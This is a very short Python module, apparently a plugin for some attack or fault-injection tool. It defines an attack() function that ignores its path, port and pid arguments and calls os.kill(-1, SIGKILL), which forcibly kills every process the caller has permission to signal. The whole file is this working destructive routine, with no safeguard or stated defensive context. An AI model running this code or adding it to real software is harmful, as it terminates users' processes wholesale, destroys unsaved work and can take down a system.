"""Kills all that it may."""

import os
import signal


def attack(path, port, pid):
    os.kill(-1, signal.SIGKILL)
    return True
